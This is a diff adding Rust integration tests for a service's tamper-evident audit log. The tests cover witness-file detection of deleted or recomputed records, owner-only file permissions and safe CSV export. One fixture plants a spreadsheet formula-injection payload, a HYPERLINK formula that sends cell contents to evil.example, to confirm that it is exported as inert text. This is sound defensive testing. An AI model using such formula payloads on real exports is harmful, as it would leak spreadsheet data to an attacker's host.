@@ -170,7 +170,7 @@ fn copy_of(dir: &Path) -> tempfile::TempDir {
     let connection = rusqlite::Connection::open(dir.join("audit.sqlite3")).unwrap();
     connection.execute_batch("PRAGMA wal_checkpoint(TRUNCATE);").unwrap();
     drop(connection);
-    for file in ["audit.sqlite3", "audit-signing.key", "audit-signing.key.pub"] {
+    for file in ["audit.sqlite3", "audit-signing.key", "audit-signing.key.pub", "audit-witness.log"] {
         std::fs::copy(dir.join(file), copy.path().join(file)).unwrap();
     }
     copy
@@ -367,4 +367,156 @@ async fn when_the_audit_log_cannot_be_written_no_data_leaves() {
         assert_eq!(reply.status, 500);
         assert!(!reply.body.contains("Kalniņa") && !reply.body.contains("QueueEvent"), "{}", reply.body);
     }
+}
+
+/// A log written by two runs of the service on one audit directory (so two signed heads,
+/// both witnessed); returns the directory and the seq of the first run's head.
+async fn two_runs() -> (tempfile::TempDir, i64) {
+    let dir = tempfile::tempdir().unwrap();
+    let mut first_head = 0;
+    for run in 0..2 {
+        let server = TestServer::start_with(Options { audit_dir: Some(dir.path().to_path_buf()), ..Default::default() }).await;
+        let mut riga = server.client("riga").await;
+        for _ in 0..3 {
+            assert_eq!(riga.soap("/GetApplicationList", &sample("ep115-soap11-plain.xml")).await.status, 200);
+        }
+        server.stop().await;
+        if run == 0 {
+            first_head = export_json(dir.path(), &[]).len() as i64;
+        }
+    }
+    (dir, first_head)
+}
+
+fn verify_with_witness(dir: &Path) -> (bool, String, String) {
+    let witness = dir.join("audit-witness.log");
+    cli(&["audit", "verify", "--data-dir", dir.to_str().unwrap(), "--witness", witness.to_str().unwrap()])
+}
+
+#[tokio::test]
+async fn the_witness_outside_the_database_finds_what_deleting_checkpoints_hides() {
+    let (original, first_head) = two_runs().await;
+    let last = 2 * first_head;
+    let witness = std::fs::read_to_string(original.path().join("audit-witness.log")).unwrap();
+    let seqs: Vec<&str> = witness.lines().filter_map(|line| line.split(' ').find_map(|w| w.strip_prefix("seq="))).collect();
+    assert_eq!(seqs, [first_head.to_string(), last.to_string()], "each run's last head is witnessed: {witness}");
+    let (ok, out, err) = verify_with_witness(original.path());
+    assert!(ok, "{out}{err}");
+    assert!(out.contains(&format!("reaches all 2 heads named outside its checkpoints (1 witness file(s)), up to seq {last}")), "{out}");
+
+    // The newest records deleted with their checkpoint: the rest is a consistent, signed log…
+    let cut = copy_of(original.path());
+    tamper(cut.path(), &format!("DELETE FROM audit_records WHERE seq > {first_head}; DELETE FROM audit_checkpoints WHERE seq > {first_head};"));
+    let (ok, out, _) = cli(&["audit", "verify", "--data-dir", cut.path().to_str().unwrap()]);
+    assert!(ok && out.contains("no witness file given"), "without the witness this passes: {out}");
+    // …which the witness contradicts, naming where.
+    let (ok, _, err) = verify_with_witness(cut.path());
+    assert!(!ok, "a cut tail passed against the witness");
+    assert!(err.contains(&format!("at seq {}:", first_head + 1)) && err.contains("truncated"), "{err}");
+    assert!(err.contains(&format!("audit-witness.log line 2 names a signed head at seq {last}")), "{err}");
+
+    // Every checkpoint deleted and the chain recomputed after a change.
+    let recomputed = copy_of(original.path());
+    rewrite_record(recomputed.path(), 2, |record| record.person_code = Some("23118813456".into()));
+    let connection = rusqlite::Connection::open(recomputed.path().join("audit.sqlite3")).unwrap();
+    connection.execute_batch("DELETE FROM audit_checkpoints;").unwrap();
+    let mut hash = [0u8; 32];
+    for record in stored_records(&connection) {
+        let next = record.chain_hash(&hash);
+        connection
+            .execute("UPDATE audit_records SET prev_hash = ?1, hash = ?2 WHERE seq = ?3", rusqlite::params![hash.as_slice(), next.as_slice(), record.seq])
+            .unwrap();
+        hash = next;
+    }
+    drop(connection);
+    let (ok, _, err) = verify_with_witness(recomputed.path());
+    assert!(!ok, "a recomputed chain passed against the witness");
+    assert!(err.contains(&format!("at seq {first_head}:")) && err.contains("does not reach the head the witness"), "{err}");
+
+    // A prefix deleted by hand, down to an ordinary checkpoint, is not a prune.
+    let prefix = copy_of(original.path());
+    tamper(prefix.path(), &format!("DELETE FROM audit_records WHERE seq <= {first_head}; DELETE FROM audit_checkpoints WHERE seq < {first_head};"));
+    verify_fails_at(prefix.path(), first_head + 1, "not a prune marker");
+
+    // A forged witness line does not count.
+    let forged = copy_of(original.path());
+    let path = forged.path().join("audit-witness.log");
+    let text = std::fs::read_to_string(&path).unwrap();
+    std::fs::write(&path, text.replacen(&format!("seq={last} "), &format!("seq={} ", last + 5), 1)).unwrap();
+    let (ok, _, err) = verify_with_witness(forged.path());
+    assert!(!ok && err.contains("line 2 does not verify"), "{err}");
+}
+
+#[tokio::test]
+async fn an_operator_name_a_spreadsheet_would_evaluate_is_exported_as_text() {
+    let server = TestServer::start().await;
+    let hostile = sample("ep115-soap11-plain.xml")
+        .replace("<spolis:FirstName>Anna</spolis:FirstName>", "<spolis:FirstName>=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"Anna\")</spolis:FirstName>");
+    assert_ne!(hostile, sample("ep115-soap11-plain.xml"));
+    server.client("riga").await.soap("/GetApplicationList", &hostile).await;
+    let (_, audit_dir) = server.stop().await;
+    // The record keeps the name as sent…
+    let records = export_json(audit_dir.path(), &[]);
+    assert_eq!(records[0]["operator_first_name"], "=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")");
+    // …and the CSV hands it to a spreadsheet as text.
+    let (ok, csv, err) = cli(&["audit", "export", "--data-dir", audit_dir.path().to_str().unwrap(), "--format", "csv"]);
+    assert!(ok, "{err}");
+    let row = csv.lines().nth(1).unwrap();
+    assert!(row.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Anna"")""#), "{row}");
+    assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
+}
+
+#[cfg(unix)]
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
+}
+
+/// Runs the command line under `umask 000`, as a careless unit file or shell would.
+#[cfg(unix)]
+fn cli_with_open_umask(args: &[&str]) -> (bool, String) {
+    let output = Command::new("sh").arg("-c").arg("umask 000; exec \"$@\"").arg("sh").arg(CLI).args(args).output().expect("sh runs");
+    (output.status.success(), String::from_utf8_lossy(&output.stderr).into_owned())
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn files_holding_personal_data_are_the_owners_only_whatever_the_umask() {
+    let root = tempfile::tempdir().unwrap();
+    let data = root.path().join("fresh/data");
+    let (ok, err) = cli_with_open_umask(&["seed-demo", "--data-dir", data.to_str().unwrap(), "--persons", "20"]);
+    assert!(ok, "{err}");
+    assert_eq!((mode(&root.path().join("fresh")), mode(&data)), (0o700, 0o700));
+    let register = data.join("spolis.sqlite3");
+    assert_eq!(mode(&register), 0o600);
+    for sidecar in ["-wal", "-shm"] {
+        let path = PathBuf::from(format!("{}{sidecar}", register.display()));
+        if path.exists() {
+            assert_eq!(mode(&path), 0o600, "{}", path.display());
+        }
+    }
+
+    // A running service's audit log, its WAL and SHM, the key and the witness.
+    let server = TestServer::start().await;
+    server.client("riga").await.soap("/GetApplicationList", &sample("ep115-soap11-plain.xml")).await;
+    let dir = server.audit_dir.clone();
+    for file in ["audit.sqlite3", "audit.sqlite3-wal", "audit.sqlite3-shm", "audit-signing.key"] {
+        assert_eq!(mode(&dir.join(file)), 0o600, "{file}");
+    }
+    let (_, audit_dir) = server.stop().await;
+    let dir = audit_dir.path();
+    assert_eq!(mode(&dir.join("audit-witness.log")), 0o600);
+
+    // An export, and a log left readable by an older build, tightened when next opened.
+    let output = dir.join("export.csv");
+    let (ok, err) = cli_with_open_umask(&["audit", "export", "--data-dir", dir.to_str().unwrap(), "--output", output.to_str().unwrap()]);
+    assert!(ok, "{err}");
+    assert_eq!(mode(&output), 0o600);
+    use std::os::unix::fs::PermissionsExt;
+    for file in ["audit.sqlite3", "audit-signing.key"] {
+        std::fs::set_permissions(dir.join(file), std::fs::Permissions::from_mode(0o644)).unwrap();
+    }
+    let (ok, err) = cli_with_open_umask(&["audit", "prune", "--data-dir", dir.to_str().unwrap()]);
+    assert!(ok, "{err}");
+    assert_eq!((mode(&dir.join("audit.sqlite3")), mode(&dir.join("audit-signing.key"))), (0o600, 0o600));
 }
